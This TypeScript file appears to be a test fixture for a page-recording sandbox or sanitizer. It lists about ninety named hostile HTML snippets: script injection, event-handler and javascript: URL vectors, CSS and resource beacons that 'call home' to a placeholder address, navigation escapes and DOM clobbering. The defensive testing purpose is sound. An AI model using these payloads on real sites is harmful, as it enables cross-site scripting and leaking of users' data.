// Markup with which a recorded page could try to run something, to fetch something, or to get away. `{{run}}` is script that
// leaves a mark and calls home, `{{home}}` an address that counts who calls.

/** One attempt. */
export interface HostileMarkup {
  readonly name: string
  readonly html: string
}

const of = (name: string, html: string): HostileMarkup => ({ name, html })

const svg = (inner: string): string => `<svg xmlns="http://www.w3.org/2000/svg">${inner}</svg>`
const math = (inner: string): string => `<math xmlns="http://www.w3.org/1998/Math/MathML">${inner}</math>`

/** All of them; each name is the path under which it calls home. */
export const hostileMarkup: readonly HostileMarkup[] = [
  // Script.
  of('script', '<script>{{run}}</script>'),
  of('script-src', '<script src="{{home}}"></script>'),
  of('script-module', '<script type="module">{{run}}</script>'),
  of('script-import-map', '<script type="importmap">{"imports":{"a":"{{home}}"}}</script>'),
  of('script-speculation', '<script type="speculationrules">{"prefetch":[{"urls":["{{home}}"]}]}</script>'),
  of('script-in-noscript', '<noscript><img src="{{home}}"><script>{{run}}</script></noscript>'),
  of('script-in-template', '<template><script>{{run}}</script></template>'),
  of('script-in-svg', svg('<script>{{run}}</script>')),
  of('script-in-svg-href', svg('<script href="{{home}}"></script>')),
  of('script-in-textarea', '<textarea></textarea><script>{{run}}</script>'),
  // Event handlers.
  of('img-onerror', '<img src="data:image/png;base64,AA" onerror="{{run}}">'),
  of('body-onload', '<svg onload="{{run}}"></svg>'),
  of('input-onfocus', '<input autofocus onfocus="{{run}}">'),
  of('details-ontoggle', '<details open ontoggle="{{run}}">x</details>'),
  of('style-onload', '<style onload="{{run}}">p{color:red}</style>'),
  of('animation-onstart', '<p style="animation:x 1ms" onanimationstart="{{run}}">x</p>'),
  of('video-onerror', '<video onerror="{{run}}"><source onerror="{{run}}" src="x"></video>'),
  of('iframe-onload', '<iframe onload="{{run}}"></iframe>'),
  of('mixed-case-handler', '<img src=x OnErRoR="{{run}}">'),
  of(
    'math-handler',
    math('<maction actiontype="statusline#{{home}}" onmouseover="{{run}}"><mi>x</mi></maction>'),
  ),
  of('popover-ontoggle', '<div popover onbeforetoggle="{{run}}">x</div>'),
  of('marquee-onstart', '<marquee onstart="{{run}}">x</marquee>'),
  // javascript: and data: addresses.
  of('link-javascript', '<a class="click" href="javascript:{{run}}">x</a>'),
  of('link-javascript-spaces', '<a class="click" href=" java&#10;script:{{run}}">x</a>'),
  of('link-data', '<a class="click" href="data:text/html,<script>{{run}}</script>">x</a>'),
  of('link-vbscript', '<a class="click" href="vbscript:x">x</a>'),
  of('iframe-javascript', '<iframe src="javascript:{{run}}"></iframe>'),
  of('iframe-data', '<iframe src="data:text/html,<script>{{run}}</script>"></iframe>'),
  of('object-data', '<object data="data:text/html,<script>{{run}}</script>"></object>'),
  of('embed-javascript', '<embed src="javascript:{{run}}">'),
  of('form-javascript', '<form action="javascript:{{run}}"><button class="click">x</button></form>'),
  of('button-formaction', '<form><button class="click" formaction="javascript:{{run}}">x</button></form>'),
  of('svg-link-javascript', svg('<a class="click" href="javascript:{{run}}"><text y="20">x</text></a>')),
  of(
    'svg-animated-link',
    svg(
      '<a class="click"><animate attributeName="href" values="javascript:{{run}}"/><text y="20">x</text></a>',
    ),
  ),
  of(
    'svg-set-link',
    svg(
      '<a class="click"><set attributeName="xlink:href" to="javascript:{{run}}"/><text y="20">x</text></a>',
    ),
  ),
  of('math-link-javascript', math('<mrow class="click" href="javascript:{{run}}"><mi>x</mi></mrow>')),
  // Going away, and taking the viewer along.
  of('meta-refresh', '<meta http-equiv="refresh" content="0;url={{home}}">'),
  of('meta-policy', '<meta http-equiv="content-security-policy" content="default-src *">'),
  of('base', '<base href="{{home}}/" target="_top">'),
  of('link-top', '<a class="click" href="{{home}}" target="_top">x</a>'),
  of('link-blank', '<a class="click" href="{{home}}" target="_blank">x</a>'),
  of('link-download', '<a class="click" href="{{home}}" download>x</a>'),
  of('link-ping', '<a class="click" href="#x" ping="{{home}}">x</a>'),
  of('link-attribution', '<a class="click" href="#x" attributionsrc="{{home}}">x</a>'),
  of(
    'form-post',
    '<form action="{{home}}" method="post" target="_top"><button class="click">x</button></form>',
  ),
  of(
    'area',
    '<map name="m"><area class="click" href="{{home}}" shape="default"></map><img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
  ),
  // Frames within the recorded page.
  of('iframe-src', '<iframe src="{{home}}"></iframe>'),
  of('iframe-srcdoc', '<iframe srcdoc="<script>{{run}}</script><img src={{home}}>"></iframe>'),
  of('iframe-sandbox', '<iframe sandbox="allow-scripts allow-top-navigation" src="{{home}}"></iframe>'),
  of('frame', '<frame src="{{home}}">'),
  of('object', '<object data="{{home}}"><param name="src" value="{{home}}"></object>'),
  of('embed', '<embed src="{{home}}">'),
  of('applet', '<applet code="{{home}}" archive="{{home}}"></applet>'),
  of('portal', '<portal src="{{home}}"></portal><fencedframe src="{{home}}"></fencedframe>'),
  // Pictures and media.
  of('img', '<img src="{{home}}">'),
  of('img-srcset', '<img srcset="{{home}} 2x, {{home}}?3 3x">'),
  of('picture', '<picture><source srcset="{{home}}"><img src="{{home}}?img"></picture>'),
  of('input-image', '<input type="image" src="{{home}}">'),
  of('video-poster', '<video poster="{{home}}" src="{{home}}?video" autoplay preload="auto"></video>'),
  of(
    'audio',
    '<audio src="{{home}}" autoplay><source src="{{home}}?source"><track default src="{{home}}?track"></audio>',
  ),
  of('background', '<table background="{{home}}"><tr><td background="{{home}}?cell">x</td></tr></table>'),
  of(
    'svg-image',
    svg('<image href="{{home}}" width="9" height="9"/><image xlink:href="{{home}}?x" width="9" height="9"/>'),
  ),
  of('svg-use', svg('<use href="{{home}}#x"/>')),
  of(
    'svg-fe-image',
    svg('<filter id="f"><feImage href="{{home}}"/></filter><rect width="9" height="9" filter="url(#f)"/>'),
  ),
  of(
    'svg-foreign-object',
    svg(
      '<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="{{home}}"/></foreignObject>',
    ),
  ),
  of('svg-font', svg('<font-face-uri xlink:href="{{home}}"/><cursor xlink:href="{{home}}?c"/>')),
  // Stylesheets.
  of('css-import', '<style>@import url("{{home}}");</style>'),
  of('css-url', '<style>.x{background:url("{{home}}")}</style><p class="x">x</p>'),
  of(
    'css-font',
    '<style>@font-face{font-family:f;src:url("{{home}}")}.f{font-family:f}</style><p class="f">x</p>',
  ),
  of('css-image-set', '<p style="background:image-set(url({{home}}) 1x)">x</p>'),
  of('css-cursor', '<p style="cursor:url({{home}}),auto">x</p>'),
  of(
    'css-attribute-guess',
    '<style>input[value^="a"]{background:url("{{home}}")}</style><input value="abc">',
  ),
  of(
    'css-list-and-content',
    '<style>.l{list-style:url({{home}})}.l::before{content:url({{home}}?content)}</style><li class="l">x</li>',
  ),
  of(
    'css-mask-and-shape',
    '<p style="mask:url({{home}}#m);shape-outside:url({{home}}?s);clip-path:url({{home}}#c);float:left">x</p>',
  ),
  of('css-property', '<p style="--x:url({{home}});background:var(--x)">x</p>'),
  of('link-stylesheet', '<link rel="stylesheet" href="{{home}}">'),
  of(
    'link-preload',
    '<link rel="preload" as="image" href="{{home}}"><link rel="modulepreload" href="{{home}}?m">',
  ),
  of('link-prefetch', '<link rel="prefetch" href="{{home}}"><link rel="prerender" href="{{home}}?p">'),
  of('link-preconnect', '<link rel="preconnect" href="{{home}}"><link rel="dns-prefetch" href="{{home}}">'),
  of('link-icon', '<link rel="icon" href="{{home}}"><link rel="manifest" href="{{home}}?m">'),
  // Names that take others' places.
  of(
    'clobber-document',
    '<img name="createElement"><form name="body"></form><img name="getElementById"><iframe name="documentElement"></iframe>',
  ),
  of(
    'clobber-form',
    '<form><input name="appendChild"><input name="setAttribute"><input id="parentNode"><input name="childNodes"><p>x</p><p>y</p></form>',
  ),
  of(
    'clobber-window',
    '<a id="parent"></a><a id="top"></a><a id="postMessage"></a><iframe name="frames"></iframe>',
  ),
  of('clobber-collection', '<a id="x"></a><a id="x" name="y" href="{{home}}"></a>'),
  // What takes keys and the view.
  of('autofocus', '<input autofocus><textarea autofocus></textarea>'),
  of('access-key', '<a accesskey="e" class="click" href="{{home}}">x</a>'),
  of('dialog', '<dialog open style="position:fixed;inset:0">x</dialog>'),
  of(
    'custom-element',
    '<x-evil onclick="{{run}}" src="{{home}}"></x-evil><button is="x-evil" class="click" onclick="{{run}}">x</button>',
  ),
  of('fixed-cover', '<p style="position:fixed;inset:0;z-index:2147483647;pointer-events:none">x</p>'),
  of(
    'namespaced-attribute',
    svg('<a class="click" xlink:href="javascript:{{run}}" xml:base="{{home}}"><text y="20">x</text></a>'),
  ),
]
